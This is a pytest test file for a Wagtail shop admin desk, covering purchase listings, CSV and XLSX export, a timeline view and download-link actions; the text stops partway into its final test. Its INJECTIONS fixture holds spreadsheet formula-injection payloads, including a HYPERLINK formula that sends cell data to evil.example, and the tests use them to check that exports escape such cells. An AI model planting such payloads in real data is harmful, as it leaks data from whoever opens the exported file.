"""The shop desk in the Wagtail admin, through its URLs: the purchases listing (filters, search,
sort, pages, CSV and XLSX export), the inspect view with its timeline, each action (confirm page,
POST, log entry, effect) and who may do what."""

from __future__ import annotations

import csv
import functools
import io
import re
from datetime import timedelta

import pytest
from django.contrib.auth.models import Group, Permission
from django.core import mail
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.models import ModelLogEntry

from tests.concurrency import run_at_once
from tests.factories import (
    DownloadLinkFactory,
    ProductFileFactory,
    ProductPageFactory,
    PurchaseFactory,
    StripeEventFactory,
    UserFactory,
)
from tests.stripe_fake import event_for, post_event, start_checkout
from tests.test_fulfillment import needs_postgres
from wagtail_paid_delivery import desk, links, timeline
from wagtail_paid_delivery.models import (
    DownloadEvent,
    DownloadLink,
    FileDownloadCount,
    OutboundEmail,
    Purchase,
)
from wagtail_paid_delivery.tasks import resend_links, send_delivery_email, sweep_emails

pytestmark = pytest.mark.django_db

S = Purchase.Status
NS = "wagtail_paid_delivery_purchases"


def url(name: str, *args) -> str:
    return reverse(f"{NS}:{name}", args=args)


def desk_user(*codenames: str, username: str = "clerk"):
    """An admin user whose group has ``codenames`` (purchase permissions) and nothing else."""
    group = Group.objects.create(name=f"{username} group")
    group.permissions.add(
        Permission.objects.get(content_type__app_label="wagtailadmin", codename="access_admin")
    )
    for codename in codenames:
        group.permissions.add(
            Permission.objects.get(
                content_type__app_label="wagtail_paid_delivery", codename=codename
            )
        )
    user = UserFactory(username=username, is_staff=False)
    user.groups.add(group)
    return user


def assert_refused(client, path: str, method: str = "get", data=None) -> None:
    """Wagtail's answer to an admin URL the user may not use: for a page request a redirect to
    the dashboard with "Sorry, you do not have permission"; for a script, 403."""
    send = getattr(client, method)
    response = send(path, data or {})
    assert response.status_code == 302, (path, response.status_code)
    assert response["Location"] == reverse("wagtailadmin_home")
    scripted = send(path, data or {}, headers={"x-requested-with": "XMLHttpRequest"})
    assert scripted.status_code == 403, (path, scripted.status_code)


def rows(response) -> list[str]:
    """The buyers listed, in order (the title column links to each purchase's inspect view)."""
    html = response.content.decode()
    return re.findall(r'<a href="/admin/shop/purchases/\d+/"[^>]*>\s*([^<]+?)\s*</a>', html)


# Data ---------------------------------------------------------------------------------------


@pytest.fixture
def shop(home):
    """Five purchases of two products, in every state the filters tell apart."""
    guide = ProductPageFactory(parent=home, title="Field Guide", price_amount=1250)
    songs = ProductPageFactory(parent=home, title="Bird Songs", price_amount=500, currency="EUR")
    now = timezone.now()
    made = {
        "ada": PurchaseFactory(
            paid=True,
            product=guide,
            email="ada@example.com",
            livemode=True,
            created_at=now - timedelta(days=10),
        ),
        "bob": PurchaseFactory(
            paid=True,
            product=guide,
            email="bob@example.com",
            status=S.REFUNDED,
            amount_refunded=1250,
            refunded_at=now,
            created_at=now - timedelta(days=5),
        ),
        "cat": PurchaseFactory(
            product=songs, email="cat@example.com", created_at=now - timedelta(days=1)
        ),
        "dan": PurchaseFactory(
            paid=True, product=songs, email="dan@example.com", created_at=now - timedelta(days=3)
        ),
        "eve": PurchaseFactory(
            product=guide,
            email="eve@example.com",
            status=S.EXPIRED,
            created_at=now,
            source=Purchase.Source.CHECKOUT,
        ),
    }
    return made


# Listing ------------------------------------------------------------------------------------


def test_listing_shows_purchases_newest_first_with_their_facts(admin_client, shop):
    response = admin_client.get(url("index"))
    assert response.status_code == 200
    assert rows(response) == [
        "eve@example.com",
        "cat@example.com",
        "dan@example.com",
        "bob@example.com",
        "ada@example.com",
    ]
    html = response.content.decode()
    for text in ("Field Guide", "Bird Songs", "$12.50", "Refunded", "Expired", "Live", "Test"):
        assert text.lower() in html.lower(), text
    # Read-only: no add, edit or delete anywhere, not even for a superuser.
    assert "/admin/shop/purchases/new/" not in html
    assert admin_client.get("/admin/shop/purchases/new/").status_code == 404
    assert admin_client.get(f"/admin/shop/purchases/edit/{shop['ada'].pk}/").status_code == 404
    assert admin_client.get(f"/admin/shop/purchases/delete/{shop['ada'].pk}/").status_code == 404


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ({"status": "paid"}, ["dan@example.com", "ada@example.com"]),
        ({"status": ["refunded", "expired"]}, ["eve@example.com", "bob@example.com"]),
        ({"mode": "live"}, ["ada@example.com"]),
        (
            {"mode": "test"},
            ["eve@example.com", "cat@example.com", "dan@example.com", "bob@example.com"],
        ),
        ({"source": "grant"}, []),
    ],
)
def test_listing_filters(admin_client, shop, query, expected):
    assert rows(admin_client.get(url("index"), query)) == expected


def test_listing_filters_by_product(admin_client, shop):
    songs = shop["cat"].product
    response = admin_client.get(url("index"), {"product": songs.pk})
    assert rows(response) == ["cat@example.com", "dan@example.com"]


def test_listing_filters_by_date_range(admin_client, shop):
    today = timezone.localdate()
    query = {
        "created_at_from": (today - timedelta(days=6)).isoformat(),
        "created_at_to": (today - timedelta(days=2)).isoformat(),
    }
    assert rows(admin_client.get(url("index"), query)) == ["dan@example.com", "bob@example.com"]


def test_search_by_email_session_payment_intent_and_purchase_id(admin_client, shop):
    ada = shop["ada"]
    for query in (
        "ADA@example",
        ada.stripe_checkout_session_id,
        ada.stripe_payment_intent_id,
        str(ada.public_id),
        str(ada.public_id).upper(),
    ):
        response = admin_client.get(url("index"), {"q": query})
        assert rows(response) == ["ada@example.com"], query
    assert rows(admin_client.get(url("index"), {"q": "nobody@"})) == []


@pytest.mark.parametrize(
    ("ordering", "expected"),
    [
        ("email", ["ada", "bob", "cat", "dan", "eve"]),
        ("-email", ["eve", "dan", "cat", "bob", "ada"]),
        ("created_at", ["ada", "bob", "dan", "cat", "eve"]),
    ],
)
def test_listing_sorts_by_column(admin_client, shop, ordering, expected):
    response = admin_client.get(url("index"), {"ordering": ordering})
    assert rows(response) == [f"{name}@example.com" for name in expected]


def test_listing_sorts_by_amount_and_status(admin_client, shop):
    by_amount = rows(admin_client.get(url("index"), {"ordering": "amount"}))
    assert by_amount[:2] == ["cat@example.com", "dan@example.com"] or by_amount[:2] == [
        "dan@example.com",
        "cat@example.com",
    ]
    by_status = rows(admin_client.get(url("index"), {"ordering": "status"}))
    assert by_status[0] == "eve@example.com"  # expired < paid < pending < refunded


def test_listing_is_paginated(admin_client, home):
    product = ProductPageFactory(parent=home)
    PurchaseFactory.create_batch(55, product=product)
    first = admin_client.get(url("index"))
    second = admin_client.get(url("index"), {"p": 2})
    assert len(rows(first)) == 50 and len(rows(second)) == 5
    assert not set(rows(first)) & set(rows(second))


def test_listing_survives_nonsense_in_its_query(admin_client, shop):
    query = {
        "status": ["bogus", "paid"],
        "product": "abc",
        "created_at_from": "not a date",
        "mode": "sideways",
        "ordering": "stripe_checkout_session_id__password",
        "q": "%_\\'\"",
        "p": "999",
    }
    response = admin_client.get(url("index"), query)
    assert response.status_code == 200
    assert rows(admin_client.get(url("index"), {"q": "%"})) == []  # no LIKE wildcard


# Export -------------------------------------------------------------------------------------


def export_csv(client, **query) -> list[dict[str, str]]:
    response = client.get(url("index"), {"export": "csv", **query})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert re.search(r'filename="purchases-\d{4}-\d\d-\d\d\.csv"', response["Content-Disposition"])
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_export_has_every_purchase_the_filters_select(admin_client, shop):
    exported = export_csv(admin_client)
    assert len(exported) == 5
    ada = next(row for row in exported if row["Buyer email"] == "ada@example.com")
    assert ada["Purchase id"] == str(shop["ada"].public_id)
    assert (ada["Product title"], ada["Price"], ada["Currency"]) == ("Field Guide", "12.50", "USD")
    assert (ada["Status"], ada["Live mode"]) == ("paid", "True")
    assert ada["PaymentIntent id"] == shop["ada"].stripe_payment_intent_id
    # Filters and search apply to the export, and every page of it is exported.
    assert [r["Buyer email"] for r in export_csv(admin_client, status="refunded")] == [
        "bob@example.com"
    ]
    assert [r["Buyer email"] for r in export_csv(admin_client, q="dan@")] == ["dan@example.com"]


#: Cells a spreadsheet would run: valid email addresses and product titles an editor could type.
INJECTIONS = {
    "email": '=HYPERLINK("http://evil.example/"&A1)@example.com',
    "titles": ["+SUM(1;2)", "-2+3", "@cmd", "=1+1"],
}


@pytest.fixture
def injected(home):
    made = [PurchaseFactory(paid=True, email=INJECTIONS["email"], product_title="Plain")]
    for title in INJECTIONS["titles"]:
        made.append(PurchaseFactory(paid=True, email="ok@example.com", product_title=title))
    return made


def test_csv_export_escapes_cells_a_spreadsheet_would_run(admin_client, injected):
    """Wagtail's CSV export does not escape; the desk's does (prefix ')."""
    exported = export_csv(admin_client)
    emails = {row["Buyer email"] for row in exported}
    assert "'" + INJECTIONS["email"] in emails
    titles = {row["Product title"] for row in exported}
    assert titles == {"Plain", *("'" + t for t in INJECTIONS["titles"])}
    for row in exported:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@")), value


def test_xlsx_export_keeps_such_cells_as_text(admin_client, injected):
    """Wagtail's XLSX export already stores a cell beginning with "=" as text; the desk's also
    marks every such cell quote-prefixed (text even when edited) and keeps its exact value."""
    response = admin_client.get(url("index"), {"export": "xlsx"})
    assert response.status_code == 200
    assert "purchases-" in response["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header = [cell.value for cell in sheet[1]]
    email_col = header.index("Buyer email")
    title_col = header.index("Product title")
    cells = [row[email_col] for row in sheet.iter_rows(min_row=2)]
    cells += [row[title_col] for row in sheet.iter_rows(min_row=2)]
    risky = [c for c in cells if str(c.value).startswith(("=", "+", "-", "@"))]
    assert {c.value for c in risky} == {INJECTIONS["email"], *INJECTIONS["titles"]}
    for cell in risky:
        assert cell.data_type == "s", cell.value  # text, never a formula
        assert cell.quotePrefix, cell.value
    amount = header.index("Price")
    assert next(sheet.iter_rows(min_row=2))[amount].value == 12.5  # numbers stay numbers


# The inspect view and its timeline ------------------------------------------------------------


def handoff_get(client, token: str, file_id: int):
    """Press the download button (POST), follow the hand-off; returns the file response."""
    button = client.post(reverse("wagtail_paid_delivery:download_file", args=[token, file_id]))
    if button.status_code != 303:
        return button
    response = client.get(button["Location"], REMOTE_ADDR="203.0.113.77")
    b"".join(response.streaming_content) if response.streaming else response.content
    return response


@pytest.fixture
def story(client, admin_client, home, fake_stripe, django_capture_on_commit_callbacks):
    """A purchase's life through the real URLs: checkout, webhook, delivery email, a download,
    a refused download on the expired link, an editor extends it, a second download, and a
    refund event that fails while Stripe is unreachable (retrying)."""
    product = ProductPageFactory(parent=home, title="The Field Guide", files=0, price_amount=1250)
    guide = ProductFileFactory(page=product, title="Field guide (PDF)")
    ProductFileFactory(page=product, title="Maps")
    purchase = PurchaseFactory(product=product, email="")
    session_id = start_checkout(fake_stripe, purchase)
    fake_stripe.pay(session_id, email="ada@example.com", amount_discount=250)
    with django_capture_on_commit_callbacks(execute=True):
        assert post_event(client, event_for(fake_stripe.session(session_id))).status_code == 200
    token = re.search(r"/d/([A-Za-z0-9_-]{43})/", mail.outbox[0].body).group(1)

    assert handoff_get(client, token, guide.pk).status_code == 200
    link = DownloadLink.objects.get(purchase=purchase)
    DownloadLink.objects.filter(pk=link.pk).update(expires_at=timezone.now() - timedelta(1))
    button = client.post(reverse("wagtail_paid_delivery:download_file", args=[token, guide.pk]))
    assert button.status_code == 410
    # A hand-off pressed before the link expired is refused (and logged) at the bytes.
    DownloadLink.objects.filter(pk=link.pk).update(expires_at=timezone.now() + timedelta(1))
    stale = client.post(reverse("wagtail_paid_delivery:download_file", args=[token, guide.pk]))
    DownloadLink.objects.filter(pk=link.pk).update(expires_at=timezone.now() - timedelta(1))
    assert client.get(stale["Location"], REMOTE_ADDR="203.0.113.77").status_code == 410

    response = admin_client.post(url("extend_link", purchase.pk, link.pk), {"lifetime_hours": 48})
    assert response.status_code == 302
    assert handoff_get(client, token, guide.pk).status_code == 200

    fake_stripe.refund(session_id, amount=500)
    fake_stripe.set_down(True)
    charge = fake_stripe.charge(session_id)
    with django_capture_on_commit_callbacks(execute=True):
        assert post_event(client, event_for(charge, "charge.refunded")).status_code == 200
    fake_stripe.set_down(False)
    purchase.refresh_from_db()
    return purchase, token, guide


def test_inspect_view_tells_the_whole_story_oldest_first(admin_client, story, admin_user):
    purchase, _token, _guide = story
    response = admin_client.get(url("inspect", purchase.pk))
    assert response.status_code == 200
    entries = response.context["timeline_rows"]
    kinds_and_titles = [(e.kind, e.title) for e, _icon in entries]
    assert kinds_and_titles == [
        ("purchase", "Checkout started"),
        ("stripe", "Checkout completed"),
        ("status", "Paid"),
        ("link", f"Link #{purchase.links.get().pk} issued for the delivery email"),
        ("email", "Delivery email sent"),
        ("download", "Download served"),
        ("download", "Download refused: link expired"),
        ("editor", kinds_and_titles[7][1]),
        ("download", "Download served"),
        ("stripe", "Charge refunded"),
    ]
    assert [e.at for e, _icon in entries] == sorted(e.at for e, _icon in entries)
    by_kind = {(e.kind, e.title): e for e, _icon in entries}
    # Who or what did it.
    assert by_kind["stripe", "Checkout completed"].actor == "Stripe"
    assert "processed" in by_kind["stripe", "Checkout completed"].detail
    extended = entries[7][0]
    assert extended.actor == admin_user.get_username()
    assert re.match(r"Link #\d+ extended: valid until .+ \(was .+\)", extended.title)
    # The link's row says what it was issued with, not what the editor made of it.
    issued = entries[3][0]
    was = extended.title.split("(was ")[1].rstrip(")")
    assert f"valid until {was}, 5 downloads per file" == issued.detail
    # Downloads: file, bytes, truncated IP.
    served = entries[5][0]
    assert "Field guide (PDF)" in served.detail and "203.0.113.0" in served.detail
    assert "203.0.113.77" not in response.content.decode()
    assert "bytes" in served.detail and "counted" in served.detail
    # The failed event is obvious: its error and its next attempt.
    refund = by_kind["stripe", "Charge refunded"]
    assert refund.level == timeline.ERROR
    assert "StripeUnavailable" in refund.detail and "next attempt" in refund.detail

    html = response.content.decode()
    # Amount as the buyer paid it (a promotion code), and the payment in Stripe's Dashboard.
    assert "$10.00" in html and "the product&#x27;s price was $12.50" in html
    dashboard = f"https://dashboard.stripe.com/test/payments/{purchase.stripe_payment_intent_id}"
    assert dashboard in html
    assert response.context["verdict"].can_download
    assert "Yes, with link #" in html


def test_dashboard_link_is_live_for_live_purchases(admin_client, shop):
    ada = shop["ada"]
    html = admin_client.get(url("inspect", ada.pk)).content.decode()
    assert f"https://dashboard.stripe.com/payments/{ada.stripe_payment_intent_id}" in html
    assert "dashboard.stripe.com/test/" not in html


def test_inspect_view_says_why_the_link_stopped_working(admin_client, home):
    link = DownloadLinkFactory(download_limit=1)
    purchase = link.purchase
    DownloadLink.objects.filter(pk=link.pk).update(expires_at=timezone.now() - timedelta(hours=1))
    response = admin_client.get(url("inspect", purchase.pk))
    verdict = response.context["verdict"]
    assert not verdict.can_download
    assert f"the latest link (#{link.pk}) is expired" in verdict.text

    file = purchase.product_page.product_files[0]
    DownloadLink.objects.filter(pk=link.pk).update(expires_at=timezone.now() + timedelta(hours=1))
    FileDownloadCount.objects.create(link=link, file_id=file.pk, count=1)
    verdict = admin_client.get(url("inspect", purchase.pk)).context["verdict"]
    assert "used up" in verdict.text

    Purchase.objects.filter(pk=purchase.pk).update(
        status=S.REFUNDED, status_reason="Refunded in full."
    )
    verdict = admin_client.get(url("inspect", purchase.pk)).context["verdict"]
    assert verdict.text == "No: the purchase is refunded (Refunded in full)."


def test_event_that_failed_before_finding_the_purchase_is_on_its_timeline(admin_client, home):
    purchase = PurchaseFactory(paid=True)
    payload = {
        "data": {"object": {"id": "ch_1", "payment_intent": purchase.stripe_payment_intent_id}}
    }
    StripeEventFactory(type="charge.dispute.created", status="failed", payload=payload, attempts=8)
    StripeEventFactory(type="charge.refunded", payload={"data": {"object": {"id": "ch_other"}}})
    entries = timeline.build_timeline(purchase)
    stripe = [e for e in entries if e.kind == "stripe"]
    assert [e.title for e in stripe] == ["Dispute opened"]
    assert "failed for good after 8 attempts" in stripe[0].detail


# Actions ------------------------------------------------------------------------------------


@pytest.fixture
def paid(home):
    product = ProductPageFactory(parent=home, title="Field Guide", files=2, download_limit=3)
    purchase = PurchaseFactory(paid=True, product=product, email="ada@example.com")
    link = DownloadLinkFactory(purchase=purchase)
    return purchase, link


def logged(purchase, action: str):
    return ModelLogEntry.objects.filter(object_id=str(purchase.pk), action=action).get()


def assert_confirm_page(client, path: str, *texts: str) -> None:
    response = client.get(path)
    assert response.status_code == 200
    html = response.content.decode()
    assert 'name="csrfmiddlewaretoken"' in html and f'action="{path}"' in html
    for text in texts:
        assert text in html, text


def test_resend_sends_a_fresh_link_and_is_logged(
    admin_client, admin_user, paid, django_capture_on_commit_callbacks
):
    purchase, old = paid
    path = url("resend", purchase.pk)
    assert_confirm_page(admin_client, path, "Resend the delivery email", "Yes, send it")
    assert mail.outbox == [] and DownloadLink.objects.count() == 1  # GET changes nothing

    # The email is sent once the action's transaction commits (the outbox).
    with django_capture_on_commit_callbacks(execute=True):
        response = admin_client.post(path)
    assert response.status_code == 302 and response["Location"] == url("inspect", purchase.pk)
    assert len(mail.outbox) == 1 and mail.outbox[0].to == ["ada@example.com"]
    new = DownloadLink.objects.exclude(pk=old.pk).get()
    assert new.reason == DownloadLink.Reason.ADMIN
    assert "/d/" in mail.outbox[0].body
    # The link emailed is the one logged.
    token = re.search(r"/d/([A-Za-z0-9_-]{43})/", mail.outbox[0].body).group(1)
    assert links.check_token(token).pk == new.pk
    entry = logged(purchase, desk.RESEND)
    assert entry.user == admin_user and entry.data["link"] == new.pk
    assert "ada@example.com" not in entry.label + str(entry.data)  # no address in the log
    assert str(entry.message).startswith(f"Delivery email sent again with new link #{new.pk}")
    purchase.refresh_from_db()
    assert purchase.delivery_email_sent_at is not None


def test_site_history_shows_who_did_what(admin_client, admin_user, paid):
    purchase, _link = paid
    admin_client.post(url("resend", purchase.pk))
    html = admin_client.get(reverse("wagtailadmin_reports:site_history")).content.decode()
    assert "Delivery email sent again" in html
    assert url("inspect", purchase.pk) in html  # the entry links to the purchase


def test_issue_link_with_chosen_expiry_and_limit_shown_once(admin_client, admin_user, paid):
    purchase, _old = paid
    path = url("issue_link", purchase.pk)
    response = admin_client.get(path)
    assert response.context["form"].initial == {"lifetime_hours": 24, "download_limit": 3}
    before = timezone.now()
    response = admin_client.post(path, {"lifetime_hours": 72, "download_limit": 7})
    assert response.status_code == 200 and "no-store" in response["Cache-Control"]
    issued = response.context["issued"]
    link = issued.link
    assert (link.download_limit, link.reason) == (7, DownloadLink.Reason.ADMIN)
    assert timedelta(hours=71) < link.expires_at - before < timedelta(hours=73)
    assert issued.url in response.content.decode() and mail.outbox == []
    # The token is nowhere but in this response: not in the log, not in a message.
    entry = logged(purchase, desk.ISSUE_LINK)
    assert issued.token not in str(entry.data) + entry.label
    assert entry.data["download_limit"] == 7 and entry.data["emailed"] is False
    follow = admin_client.get(url("inspect", purchase.pk)).content.decode()
    assert issued.token not in follow


def test_issue_link_unlimited_and_emailed(admin_client, paid, django_capture_on_commit_callbacks):
    purchase, _old = paid
    with django_capture_on_commit_callbacks(execute=True):
        response = admin_client.post(
            url("issue_link", purchase.pk),
            {"lifetime_hours": 1, "download_limit": "", "send_email": "on"},
        )
    assert response.status_code == 302
    link = DownloadLink.objects.order_by("-pk").first()
    assert link.download_limit is None
    assert len(mail.outbox) == 1 and mail.outbox[0].to == ["ada@example.com"]
    assert logged(purchase, desk.ISSUE_LINK).data["emailed"] is True


@pytest.mark.parametrize(
    "bad",
    [{"lifetime_hours": 0}, {"lifetime_hours": "x"}, {"lifetime_hours": 5, "download_limit": 0}],
)
def test_issue_link_refuses_nonsense(admin_client, paid, bad):
    purchase, _old = paid
    response = admin_client.post(url("issue_link", purchase.pk), bad)
    assert response.status_code == 200 and response.context["form"].errors
    assert DownloadLink.objects.count() == 1


def test_extend_link_makes_an_expired_link_work_again(client, admin_client, admin_user, paid):
    purchase, link = paid
    DownloadLink.objects.filter(pk=link.pk).update(expires_at=timezone.now() - timedelta(hours=1))
    path = url("extend_link", purchase.pk, link.pk)
    assert_confirm_page(admin_client, path, "Extend a link", f"#{link.pk}: expired")
    response = admin_client.post(path, {"lifetime_hours": 5})
    assert response.status_code == 302
    link.refresh_from_db()
    assert timedelta(hours=4) < link.expires_at - timezone.now() <= timedelta(hours=5)
    entry = logged(purchase, desk.EXTEND_LINK)
    assert entry.user == admin_user and entry.data["link"] == link.pk
    verdict = admin_client.get(url("inspect", purchase.pk)).context["verdict"]
    assert verdict.can_download


def test_reset_counts_gives_the_downloads_back(admin_client, paid):
    purchase, link = paid
    files = purchase.product_page.product_files
    for file in files:
        FileDownloadCount.objects.create(link=link, file_id=file.pk, count=3)
    DownloadLink.objects.filter(pk=link.pk).update(download_count=6)
    path = url("reset_link", purchase.pk, link.pk)
    assert_confirm_page(admin_client, path, "6 downloads counted", "Yes, reset the counts")
    assert admin_client.post(path).status_code == 302
    assert set(FileDownloadCount.objects.values_list("count", flat=True)) == {0}
    link.refresh_from_db()
    assert link.download_count == 0
    assert logged(purchase, desk.RESET_LINK).data["downloads"] == 6


def test_links_of_another_purchase_are_not_found(admin_client, paid):
    purchase, _link = paid
    other = DownloadLinkFactory()
    assert admin_client.get(url("extend_link", purchase.pk, other.pk)).status_code == 404
    response = admin_client.post(url("reset_link", purchase.pk, other.pk))
    assert response.status_code == 404


def test_revoke_for_good_with_a_reason(client, admin_client, admin_user, paid):
    purchase, link = paid
    path = url("revoke", purchase.pk)
    assert_confirm_page(admin_client, path, "Revoke for good", "cannot be undone")
    # A reason is required.
    response = admin_client.post(path, {"how": "revoke", "reason": ""})
    assert response.status_code == 200 and "reason" in response.context["form"].errors
    response = admin_client.post(path, {"how": "revoke", "reason": "Chargeback fraud ring"})
    assert response.status_code == 302
    purchase.refresh_from_db()
    link.refresh_from_db()
    assert purchase.status == S.REVOKED and purchase.status_reason == "Chargeback fraud ring"
    assert link.revoked_at is not None
    entry = logged(purchase, desk.REVOKE)
    assert entry.user == admin_user and entry.data == {
        "status": "revoked",
        "reason": "Chargeback fraud ring",
    }
    # The timeline shows the editor's decision once, with who and why.
    entries = timeline.build_timeline(purchase)
    revoked = [e for e in entries if e.kind in ("status", "editor") and "evoked" in e.title]
    assert [(e.kind, e.actor, e.detail) for e in revoked] == [
        ("editor", admin_user.get_username(), "Chargeback fraud ring")
    ]
    # Final: nothing to restore, no second revoke.
    html = admin_client.get(url("inspect", purchase.pk)).content.decode()
    assert url("restore", purchase.pk) not in html and url("revoke", purchase.pk) not in html
    assert "Access already ended" in admin_client.get(path).content.decode()


def test_suspend_then_restore(admin_client, paid):
    purchase, link = paid
    response = admin_client.post(
        url("revoke", purchase.pk), {"how": "suspend", "reason": "Checking a complaint"}
    )
    assert response.status_code == 302
    purchase.refresh_from_db()
    assert purchase.status == S.DISPUTED
    link.refresh_from_db()
    assert link.revoked_at is None  # paused, not ended
    assert not admin_client.get(url("inspect", purchase.pk)).context["verdict"].can_download

    assert_confirm_page(admin_client, url("restore", purchase.pk), "Yes, restore access")
    assert admin_client.post(url("restore", purchase.pk)).status_code == 302
    purchase.refresh_from_db()
    assert purchase.status == S.PAID
    assert logged(purchase, desk.RESTORE).data == {"status": "paid"}
    assert admin_client.get(url("inspect", purchase.pk)).context["verdict"].can_download


def test_revoke_offers_no_suspension_when_not_paid(admin_client, shop):
    cat = shop["cat"]  # pending
    response = admin_client.get(url("revoke", cat.pk))
    choices = [value for value, _label in response.context["form"].fields["how"].choices]
    assert choices == ["revoke"]
    response = admin_client.post(url("revoke", cat.pk), {"how": "suspend", "reason": "x"})
    assert response.status_code == 200 and "how" in response.context["form"].errors


def test_correct_email_revokes_old_links_and_sends_a_new_one(
    admin_client, admin_user, paid, django_capture_on_commit_callbacks
):
    purchase, old = paid
    path = url("correct_email", purchase.pk)
    response = admin_client.get(path)
    assert response.context["form"].initial["email"] == "ada@example.com"
    with django_capture_on_commit_callbacks(execute=True):
        response = admin_client.post(
            path, {"email": "ada@example.org", "revoke_links": "on", "send_link": "on"}
        )
    assert response.status_code == 302
    purchase.refresh_from_db()
    old.refresh_from_db()
    assert purchase.email == "ada@example.org" and old.revoked_at is not None
    assert len(mail.outbox) == 1 and mail.outbox[0].to == ["ada@example.org"]
    entry = logged(purchase, desk.CORRECT_EMAIL)
    assert entry.data["revoked_links"] == 1 and entry.data["link"]
    assert "ada@example" not in str(entry.data) + entry.label


def test_correct_email_sends_a_delivery_email_still_waiting_to_the_new_address(
    admin_client, paid, settings
):
    purchase, _old = paid
    settings.EMAIL_BACKEND = "tests.mail_backends.DownBackend"
    assert send_delivery_email(purchase.pk).startswith("failed")  # to ada@example.com, waiting
    resend_links("ada@example.com")  # a resend to the mistyped address, waiting too
    admin_client.post(url("correct_email", purchase.pk), {"email": "ada@example.org"})
    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    OutboundEmail.objects.update(next_attempt_at=timezone.now())
    sweep_emails()
    # The delivery email goes to the corrected address; nothing more goes to the old one.
    assert [m.to for m in mail.outbox] == [["ada@example.org"]]
    resend = OutboundEmail.objects.get(kind="resend")
    assert (resend.status, resend.last_error) == ("cancelled", "the buyer's address was corrected")


def test_correct_email_rejects_an_invalid_address(admin_client, paid):
    purchase, _old = paid
    response = admin_client.post(url("correct_email", purchase.pk), {"email": "not an address"})
    assert response.status_code == 200 and "email" in response.context["form"].errors
    purchase.refresh_from_db()
    assert purchase.email == "ada@example.com"
    assert not ModelLogEntry.objects.filter(action=desk.CORRECT_EMAIL).exists()


class BrokenMail:
    def __init__(self, *args, **kwargs):
        pass

    def send_messages(self, messages):
        raise ConnectionRefusedError("mail server down")


@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_a_failed_send_is_kept_says_so_and_is_retried(admin_client, paid, settings):
    from tests.mail_backends import DownBackend

    # Transactional, so the action commits in the request and the email is tried right after.
    settings.EMAIL_BACKEND = "tests.mail_backends.DownBackend"
    DownBackend.handed = []
    purchase, _old = paid
    response = admin_client.post(url("resend", purchase.pk), follow=True)
    html = response.content.decode()
    assert "could not be sent yet (SMTPServerDisconnected: Connection unexpectedly closed)" in html
    assert "tried again automatically" in html
    # The action stands: logged, its link issued, the email recorded for another attempt.
    entry = ModelLogEntry.objects.get(action=desk.RESEND)
    link = DownloadLink.objects.get(pk=entry.data["link"])
    email = OutboundEmail.objects.get(kind="desk")
    assert (email.link, email.status, email.attempts) == (link, "pending", 1)
    assert mail.outbox == []
    # The timeline says so.
    inspect = admin_client.get(url("inspect", purchase.pk)).content.decode()
    assert "Delivery email from the shop desk not sent yet, tried again automatically" in inspect

    # The mail server is back: the sweep sends it, with the link the editor issued.
    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    OutboundEmail.objects.update(next_attempt_at=timezone.now())
    assert sweep_emails().startswith("queued 1")
    assert len(mail.outbox) == 1
    token = re.search(r"/d/([A-Za-z0-9_-]{43})/", mail.outbox[0].body).group(1)
    assert links.check_token(token).pk == link.pk
    # The token the failed attempt carried opens nothing; the link itself lives on.
    (failed,) = DownBackend.handed
    dead = re.search(r"/d/([A-Za-z0-9_-]{43})/", failed.body).group(1)
    assert dead != token
    assert (
        admin_client.get(reverse("wagtail_paid_delivery:download", args=[dead])).status_code == 404
    )
    assert failed.message()["Message-ID"] == mail.outbox[0].message()["Message-ID"]
    inspect = admin_client.get(url("inspect", purchase.pk)).content.decode()
    assert "Delivery email from the shop desk sent" in inspect


def test_a_desk_email_sent_cancels_the_delivery_email_still_waiting(
    admin_client, paid, settings, django_capture_on_commit_callbacks
):
    purchase, _old = paid
    settings.EMAIL_BACKEND = "tests.test_shop_desk.BrokenMail"
    assert send_delivery_email(purchase.pk).startswith("failed")  # waits for a retry
    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    with django_capture_on_commit_callbacks(execute=True):
        admin_client.post(url("resend", purchase.pk))
    assert len(mail.outbox) == 1
    waiting = OutboundEmail.objects.get(kind="delivery")
    assert waiting.status == "cancelled" and "shop desk" in waiting.last_error
    OutboundEmail.objects.update(next_attempt_at=timezone.now())
    assert sweep_emails().startswith("queued 0")
    assert len(mail.outbox) == 1


@needs_postgres
@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_the_desk_calls_the_mail_server_with_no_row_lock_held(admin_client, paid, settings):
    from tests.mail_backends import LockProbeBackend

    purchase, _old = paid
    settings.EMAIL_BACKEND = "tests.mail_backends.LockProbeBackend"
    LockProbeBackend.targets, LockProbeBackend.probes = [(Purchase, purchase.pk)], []
    LockProbeBackend.in_transaction = []
    response = admin_client.post(url("resend", purchase.pk), follow=True)
    assert "Delivery email sent to ada@example.com" in response.content.decode()
    # Mid-send, another connection locked the purchase at once (NOWAIT): nothing held it.
    assert LockProbeBackend.probes == [("Purchase", True)]
    assert LockProbeBackend.in_transaction == [False]
    assert len(mail.outbox) == 1


def test_actions_that_do_not_apply_refuse_and_change_nothing(admin_client, shop):
    bob = shop["bob"]  # refunded
    for name in ("resend", "issue_link", "restore", "revoke"):
        response = admin_client.get(url(name, bob.pk))
        assert response.status_code == 200 and response.context["refusal"], name
        assert "<form" not in response.content.decode().split('class="wpd-desk"')[1], name
    response = admin_client.post(url("resend", bob.pk))
    assert response.status_code == 302
    assert mail.outbox == [] and not DownloadLink.objects.filter(purchase=bob).exists()
    messages = [str(m) for m in response.wsgi_request._messages]
    assert any("Only a paid purchase" in m for m in messages)
    link = DownloadLinkFactory(purchase=shop["ada"], revoked_at=timezone.now())
    response = admin_client.post(url("extend_link", shop["ada"].pk, link.pk), {"lifetime_hours": 5})
    assert response.status_code == 302
    link.refresh_from_db()
    assert link.expires_at < timezone.now() + timedelta(hours=25)
    assert not ModelLogEntry.objects.exists()


def test_actions_need_post_with_a_csrf_token(paid, admin_user):
    from django.test import Client

    purchase, _link = paid
    client = Client(enforce_csrf_checks=True)
    client.force_login(admin_user)
